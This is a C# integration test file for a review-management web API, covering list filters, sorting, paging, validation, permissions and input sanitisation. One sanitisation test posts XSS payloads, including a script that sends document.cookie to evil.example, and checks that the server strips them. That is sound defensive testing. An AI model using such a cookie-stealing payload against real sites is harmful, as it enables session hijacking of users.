using System.Net;
using System.Net.Http.Json;
using Parley.Tests.Infrastructure;
using static Parley.Tests.Reviews.ReviewTestData;

namespace Parley.Tests.Reviews;

public sealed class ReviewListTests
{
    private static async Task<(HttpClient Client, Dictionary<string, string> Ids)> SeedAsync(string lane)
    {
        var tenant = await Lanes.App(lane).RegisterAsync();
        var client = tenant.Client();
        var now = DateTime.UtcNow;
        var ids = new Dictionary<string, string>
        {
            ["g5"] = Str((await CreateReviewAsync(client, "google", 5, "Świetna fryzjerka", date: now.AddDays(-1)))["id"]),
            ["g1"] = Str((await CreateReviewAsync(client, "google", 1, "Okropne czekanie", date: now.AddDays(-2)))["id"]),
            ["b3"] = Str((await CreateReviewAsync(client, "booksy", 3, "W porządku", date: now.AddDays(-3)))["id"]),
            ["f4"] = Str((await CreateReviewAsync(client, "facebook", 4, "Miła obsługa", date: now.AddDays(-10)))["id"]),
            ["g2"] = Str((await CreateReviewAsync(client, "google", 2, "Drogo i długo", date: now.AddDays(-20)))["id"]),
        };
        await client.PostAsJsonAsync($"/api/v1/reviews/{ids["g1"]}/reply", new { content = "Przepraszamy." });
        await client.PostAsync($"/api/v1/reviews/{ids["f4"]}/read", null);
        return (client, ids);
    }

    private static async Task<(string[] Ids, int Total)> ListAsync(HttpClient client, string query, Dictionary<string, string> ids)
    {
        var response = await client.GetAsync("/api/v1/reviews" + query);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var names = ids.ToDictionary(p => p.Value, p => p.Key);
        var items = (await Json.ReadArrayAsync(response)).Select(r => names[Str(r!["id"])]).ToArray();
        return (items, int.Parse(response.Headers.GetValues("X-Total-Count").Single(), System.Globalization.CultureInfo.InvariantCulture));
    }

    private static async Task AssertListAsync(HttpClient client, string query, Dictionary<string, string> ids, string[] expected, int total)
    {
        var (actual, actualTotal) = await ListAsync(client, query, ids);
        Assert.True(expected.SequenceEqual(actual), $"{query}: expected {string.Join(",", expected)}, got {string.Join(",", actual)}");
        Assert.True(total == actualTotal, $"{query}: expected total {total}, got {actualTotal}");
    }

    [Theory, MemberData(nameof(Lanes.All), MemberType = typeof(Lanes))]
    public async Task TheContractsFiltersAndSortsSelectAndOrderReviews(string lane)
    {
        var (client, ids) = await SeedAsync(lane);
        using (client)
        {
            await AssertListAsync(client, "", ids, ["g5", "g1", "b3", "f4", "g2"], 5);
            await AssertListAsync(client, "?status=all&source=all&sort=newest", ids, ["g5", "g1", "b3", "f4", "g2"], 5);
            await AssertListAsync(client, "?status=unanswered", ids, ["g5", "b3", "f4", "g2"], 4);
            await AssertListAsync(client, "?status=answered", ids, ["g1"], 1);
            await AssertListAsync(client, "?source=google", ids, ["g5", "g1", "g2"], 3);
            await AssertListAsync(client, "?source=google&status=unanswered", ids, ["g5", "g2"], 2);
            await AssertListAsync(client, "?sort=lowest", ids, ["g1", "g2", "b3", "f4", "g5"], 5);
            await AssertListAsync(client, "?sort=lowest&source=google&status=unanswered", ids, ["g2", "g5"], 2);
            Assert.Equal(HttpStatusCode.BadRequest, (await client.GetAsync("/api/v1/reviews?sort=highest")).StatusCode);
            await AssertListAsync(client, "?sort=oldest", ids, ["g2", "f4", "b3", "g1", "g5"], 5);
        }
    }

    [Theory, MemberData(nameof(Lanes.All), MemberType = typeof(Lanes))]
    public async Task TextRatingTimeReadAndPagingFiltersWorkWithTheTotalInTheHeader(string lane)
    {
        var (client, ids) = await SeedAsync(lane);
        using (client)
        {
            await AssertListAsync(client, "?q=czekanie", ids, ["g1"], 1);
            await AssertListAsync(client, "?q=DROGO", ids, ["g2"], 1);
            await AssertListAsync(client, "?rating=3", ids, ["b3"], 1);
            var from = DateTime.UtcNow.AddDays(-5).ToString("yyyy-MM-dd");
            await AssertListAsync(client, $"?from={from}", ids, ["g5", "g1", "b3"], 3);
            var to = DateTime.UtcNow.AddDays(-5).ToString("yyyy-MM-ddTHH:mm:ss.fffZ");
            await AssertListAsync(client, $"?to={to}", ids, ["f4", "g2"], 2);
            await AssertListAsync(client, "?read=false", ids, ["g5", "b3", "g2"], 3);
            await AssertListAsync(client, "?read=true", ids, ["g1", "f4"], 2);
            await AssertListAsync(client, "?limit=2&offset=2", ids, ["b3", "f4"], 5);
            await AssertListAsync(client, "?status=unanswered&limit=1&offset=2", ids, ["f4"], 4);
            Assert.Equal(3, (await Json.ReadAsync(await client.GetAsync("/api/v1/reviews/unread-count")))["count"]!.GetValue<int>());
        }
    }

    [Theory, MemberData(nameof(Lanes.All), MemberType = typeof(Lanes))]
    public async Task PagesFollowEachSortWithTheIdBreakingTiesOfEqualDatesAndRatings(string lane)
    {
        var tenant = await Lanes.App(lane).RegisterAsync();
        using var client = tenant.Client();
        // Written at the same instant, two ratings and two sources: every sort falls back on the id to order them.
        var date = DateTime.UtcNow.AddDays(-2);
        var created = new List<(string Id, int Rating, string Source)>();
        for (var i = 0; i < 8; i++)
        {
            var (rating, source) = (i % 2 == 0 ? 2 : 5, i % 4 < 2 ? "google" : "booksy");
            created.Add((Str((await CreateReviewAsync(client, source, rating, $"Opinia {i}", date: date))["id"]), rating, source));
        }

        var byIdDescending = created.OrderByDescending(r => r.Id, StringComparer.Ordinal).ToList();
        var expected = new Dictionary<string, string[]>
        {
            ["sort=newest"] = [.. byIdDescending.Select(r => r.Id)],
            ["sort=oldest"] = [.. created.OrderBy(r => r.Id, StringComparer.Ordinal).Select(r => r.Id)],
            ["sort=lowest"] = [.. byIdDescending.OrderBy(r => r.Rating).Select(r => r.Id)],
            ["sort=lowest&source=google"] = [.. byIdDescending.Where(r => r.Source == "google").OrderBy(r => r.Rating).Select(r => r.Id)],
        };
        foreach (var (query, ids) in expected)
        {
            var paged = new List<string>();
            for (var offset = 0; offset < ids.Length; offset += 3)
            {
                var response = await client.GetAsync($"/api/v1/reviews?{query}&limit=3&offset={offset}");
                Assert.Equal(ids.Length.ToString(System.Globalization.CultureInfo.InvariantCulture), response.Headers.GetValues("X-Total-Count").Single());
                paged.AddRange((await Json.ReadArrayAsync(response)).Select(r => Str(r!["id"])));
            }

            Assert.True(ids.SequenceEqual(paged), $"{query}: expected {string.Join(",", ids)}, got {string.Join(",", paged)}");
        }
    }

    [Theory, MemberData(nameof(Lanes.All), MemberType = typeof(Lanes))]
    public async Task InvalidFiltersAnswer400NamingEachField(string lane)
    {
        var tenant = await Lanes.App(lane).RegisterAsync();
        using var client = tenant.Client();
        var response = await client.GetAsync("/api/v1/reviews?status=open&source=yelp&sort=best&rating=6&from=yesterday");
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var error = (await Json.ReadAsync(response))["error"]!;
        Assert.Equal("VALIDATION_ERROR", Str(error["code"]));
        Assert.Equal(["from", "rating", "sort", "source", "status"], error["details"]!.AsObject().Select(d => d.Key).Order(StringComparer.Ordinal).ToArray());

        var limit = await client.GetAsync("/api/v1/reviews?limit=0");
        Assert.NotNull((await Json.ReadAsync(limit))["error"]!["details"]!["limit"]);

        var notANumber = await client.GetAsync("/api/v1/reviews?rating=five");
        Assert.Equal(HttpStatusCode.BadRequest, notANumber.StatusCode);
        Assert.NotNull((await Json.ReadAsync(notANumber))["error"]!["details"]!["rating"]);
    }

    [Theory, MemberData(nameof(Lanes.All), MemberType = typeof(Lanes))]
    public async Task ManualReviewsAreValidatedSanitisedAndUniquePerSourceAndExternalId(string lane)
    {
        var tenant = await Lanes.App(lane).RegisterAsync();
        using var client = tenant.Client();

        var invalid = await client.PostAsJsonAsync("/api/v1/reviews", new { source = "yelp", rating = 0, author_name = "", email = "x" });
        Assert.Equal(HttpStatusCode.BadRequest, invalid.StatusCode);
        var details = (await Json.ReadAsync(invalid))["error"]!["details"]!.AsObject();
        Assert.Equal(["author_name", "content", "email", "rating", "source"], details.Select(d => d.Key).Order(StringComparer.Ordinal).ToArray());

        var badDate = await client.PostAsync("/api/v1/reviews", Json.Raw("""{"author_name":"A","rating":5,"content":"ok","date":"24.11.2025"}"""));
        Assert.Equal(HttpStatusCode.BadRequest, badDate.StatusCode);
        Assert.NotNull((await Json.ReadAsync(badDate))["error"]!["details"]!["date"]);

        var future = await client.PostAsJsonAsync("/api/v1/reviews", new { author_name = "A", rating = 5, content = "ok", date = DateTime.UtcNow.AddDays(3) });
        Assert.Equal(HttpStatusCode.BadRequest, future.StatusCode);

        var xss = await Json.ReadAsync(await client.PostAsJsonAsync("/api/v1/reviews", new
        {
            author_name = "<img src=x onerror=alert(1)>Anna",
            rating = 5,
            content = "Super <script>document.location='https://evil.example/?c='+document.cookie</script>salon <3",
        }));
        Assert.Equal("manual", Str(xss["source"]));
        Assert.Equal("Anna", Str(xss["author_name"]));
        Assert.Equal("Super salon <3", Str(xss["content"]));

        await CreateReviewAsync(client, externalId: "g-1");
        var duplicate = await client.PostAsJsonAsync("/api/v1/reviews", new { source = "google", external_id = "g-1", author_name = "B", rating = 4, content = "x" });
        Assert.Equal(HttpStatusCode.Conflict, duplicate.StatusCode);
        Assert.Equal("REVIEW_ALREADY_EXISTS", Str((await Json.ReadAsync(duplicate))["error"]!["code"]));
        var otherSource = await client.PostAsJsonAsync("/api/v1/reviews", new { source = "facebook", external_id = "g-1", author_name = "B", rating = 4, content = "x" });
        Assert.Equal(HttpStatusCode.Created, otherSource.StatusCode);

        var emptyReply = await client.PostAsJsonAsync($"/api/v1/reviews/{Str(xss["id"])}/reply", new { content = "<script>x</script>" });
        Assert.Equal(HttpStatusCode.BadRequest, emptyReply.StatusCode);
        Assert.NotNull((await Json.ReadAsync(emptyReply))["error"]!["details"]!["content"]);
    }

    [Fact]
    public async Task AViewerMayReadReviewsButNotReplyOrCreate()
    {
        var tenant = await Lanes.App(Lanes.Sqlite).RegisterAsync();
        using var owner = tenant.Client();
        var review = await CreateReviewAsync(owner);
        var (viewer, _) = await tenant.AddMemberAsync("viewer");
        using (viewer)
        {
            Assert.Equal(HttpStatusCode.OK, (await viewer.GetAsync("/api/v1/reviews")).StatusCode);
            Assert.Equal(HttpStatusCode.Forbidden, (await viewer.PostAsJsonAsync($"/api/v1/reviews/{Str(review["id"])}/reply", new { content = "x" })).StatusCode);
            Assert.Equal(HttpStatusCode.Forbidden, (await viewer.PostAsJsonAsync("/api/v1/reviews", new { author_name = "A", rating = 5, content = "x" })).StatusCode);
        }

        using var anonymous = tenant.App.CreateClient();
        var unauthorized = await anonymous.GetAsync("/api/v1/reviews");
        Assert.Equal(HttpStatusCode.Unauthorized, unauthorized.StatusCode);
        Assert.Equal("UNAUTHORIZED", Str((await Json.ReadAsync(unauthorized))["error"]!["code"]));
    }
}
